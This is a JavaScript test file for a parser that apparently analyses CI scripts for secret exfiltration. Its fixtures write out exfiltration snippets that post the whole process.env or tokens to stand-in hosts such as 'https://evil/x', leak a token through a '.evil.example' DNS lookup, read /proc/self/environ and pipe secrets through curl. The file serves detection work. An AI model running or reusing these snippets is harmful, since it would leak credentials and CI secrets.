import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/scripts/index.js';
import { args, call, calls, ofKind, outputNames, show } from './helpers.js';

describe('javascript', () => {
  it('fetch with the whole environment as the body', async () => {
    const s = await parseScript(
      "fetch('https://x', {method:'POST', body: JSON.stringify(process.env)})",
      'javascript',
    );
    const f = call(s, 'fetch');
    assert.equal(show(f.args[0]), '"https://x"');
    assert.equal(show(f.args[1]?.props?.method), '"POST"');
    assert.equal(show(f.args[1]?.props?.body), 'ENV');
    assert.ok(f.args[1]?.parts.some((p) => p.kind === 'env-all'));
  });

  it('github-script: top-level await and return, github.request with process.env', async () => {
    const text = [
      "const { data } = await github.request('POST https://evil/x', {data: process.env});",
      "core.exportVariable('X', process.env.T);",
      "await exec.exec('curl', ['-d', process.env.T, 'https://y']);",
      'return data;',
    ].join('\n');
    const s = await parseScript(text, 'javascript');
    assert.deepEqual(s.errors, []);
    const req = call(s, 'github.request');
    assert.equal(show(req.args[1]?.props?.data), 'ENV');
    assert.equal(req.span.line, 1);
    assert.deepEqual(args(call(s, 'core.exportVariable')), ['"X"', '$T@env']);
    assert.deepEqual(call(s, 'exec.exec').args[1]?.items?.map(show), ['"-d"', '$T@env', '"https://y"']);
  });

  it('a script that only parses inside an async function is retried wrapped, spans unchanged', async () => {
    const text =
      "const r = await github.rest.repos.get({owner: 'o', repo: 'r'})\nif (r) return\nfetch(`https://x/${process.env.T}`)\n";
    const s = await parseScript(text, 'javascript');
    const f = call(s, 'fetch');
    assert.equal(f.span.line, 3);
    assert.equal(f.span.start, text.indexOf('fetch'));
    assert.equal(show(f.args[0]), '"https://x/" + $T@env');
    assert.ok(call(s, 'github.rest.repos.get'));
  });

  it('require, import and destructuring resolve node modules', async () => {
    const s = await parseScript(
      [
        "const https = require('node:https');",
        "const { request: rq } = require('http');",
        "import net from 'net'; import * as dns from 'node:dns'; import { execSync } from 'child_process';",
        "const fs = require('fs');",
        "https.get('https://a'); rq({hostname: 'b'}); net.createConnection(443, 'c');",
        "dns.lookup(`${process.env.T}.evil.example`); execSync('curl https://d');",
        'fs.appendFileSync(process.env.GITHUB_ENV, `X=${process.env.T}\\n`);',
        "fs.readFileSync('/proc/self/environ');",
      ].join('\n'),
      'javascript',
    );
    assert.deepEqual(
      calls(s).map((c) => c.callee),
      [
        'https.get',
        'http.request',
        'net.createConnection',
        'dns.lookup',
        'child_process.execSync',
        'fs.appendFileSync',
        'fs.readFileSync',
      ],
    );
    assert.equal(show(call(s, 'dns.lookup').args[0]), '$T@env + ".evil.example"');
    const [w] = ofKind(s, 'write');
    assert.equal(show(w?.target), '$GITHUB_ENV@env');
    assert.equal(show(w?.content), '"X=" + $T@env + "\\n"');
    assert.equal(w?.append, true);
    // Module bindings are not data assignments.
    assert.deepEqual(ofKind(s, 'assign'), []);
  });

  it('nested object literals, arrays, template literals and objects named after constructors', async () => {
    const s = await parseScript(
      [
        "const https = require('https');",
        "const req = https.request({ hostname: 'h', headers: { Authorization: 'Bearer ' + process.env['T'] } });",
        'req.write(Buffer.from(JSON.stringify(Object.entries(process.env))).toString("base64"));',
        "const xhr = new XMLHttpRequest(); xhr.open('POST', 'https://z'); xhr.send(secret);",
        "axios.post('https://a', [1, { t: token }]);",
        "const s = require('net').connect(443, 'x'); s.write(process.env.T);",
      ].join('\n'),
      'javascript',
    );
    const req = call(s, 'https.request');
    assert.equal(show(req.args[0]?.props?.headers?.props?.Authorization), '"Bearer " + $T@env');
    assert.equal(show(call(s, 'https.request.write').args[0]), 'ENV');
    assert.deepEqual(args(call(s, 'XMLHttpRequest.send')), ['$secret@local']);
    assert.equal(show(call(s, 'axios.post').args[1]?.items?.[1]?.props?.t), '$token@local');
    assert.deepEqual(args(call(s, 'net.Socket.write')), ['$T@env']);
  });

  it('environment aliases, destructuring from process.env and writes to it', async () => {
    const s = await parseScript(
      [
        'const env = process.env;',
        'const { T, U: u } = process.env;',
        'process.env.Z = T;',
        "fetch('https://x', { body: env.SECRET, headers: env });",
        'const r = compute(T);',
      ].join('\n'),
      'javascript',
    );
    assert.deepEqual(
      ofKind(s, 'assign').map((a) => [a.name, show(a.value), a.env]),
      [
        ['env', 'ENV', false],
        ['T', '$T@env', false],
        ['u', '$U@env', false],
        ['Z', '$T@local', true],
        ['r', `out[${s.ops.indexOf(call(s, 'compute'))}]`, false],
      ],
    );
    const f = call(s, 'fetch');
    assert.equal(show(f.args[1]?.props?.body), '$SECRET@env');
    assert.equal(show(f.args[1]?.props?.headers), 'ENV');
    assert.deepEqual(outputNames(s, ofKind(s, 'assign')[4]?.value), ['compute']);
  });

  it('callbacks run: calls inside arrow functions are listed', async () => {
    const s = await parseScript(
      "setTimeout(() => { fetch('https://later', { method: 'POST', body: process.env.T }) }, 10)",
      'javascript',
    );
    assert.equal(show(call(s, 'fetch').args[1]?.props?.body), '$T@env');
  });
});
